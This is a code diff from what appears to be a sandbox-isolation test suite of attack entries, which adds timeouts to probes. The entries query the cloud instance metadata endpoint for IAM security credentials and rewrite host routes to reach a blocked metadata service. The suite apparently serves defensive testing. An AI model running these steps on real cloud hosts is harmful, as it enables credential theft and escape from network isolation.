@@ -98,11 +98,13 @@ export const metadata: readonly Attack[] = [
         awsvpc: open('as in ECS'),
       },
     },
-    program: async (box) => {
+    program: async (box, { mode }) => {
       const base = box.env.AWS_EC2_METADATA_SERVICE_ENDPOINT ?? 'http://169.254.169.254';
       const list = `${base}/latest/meta-data/iam/security-credentials/`;
       const token = await box.http('token', `${base}/latest/api/token`, {
         method: 'PUT',
+        // None arrives over a bridge.
+        ...(mode === 'bridge' ? { patience: 1500 } : {}),
         headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' },
       });
       const headers = token.got === undefined ? {} : { 'x-aws-ec2-metadata-token': token.got };
@@ -208,7 +210,8 @@ export const metadata: readonly Attack[] = [
         `ip route show 169.254.169.254; ip route del 169.254.169.254; ip route add 169.254.169.254 via ${gateway}`,
       );
       const tries = [...(turned.refused === undefined ? [] : [turned])];
-      if (turned.refused === undefined) tries.push(await box.reach('metadata', { host: '169.254.169.254', port: 80 }));
+      if (turned.refused === undefined)
+        tries.push(await box.reach('metadata', { host: '169.254.169.254', port: 80 }, 1500));
       box.sh('back', `ip route del 169.254.169.254 && ip route add ${turned.got}`);
       return tries;
     },
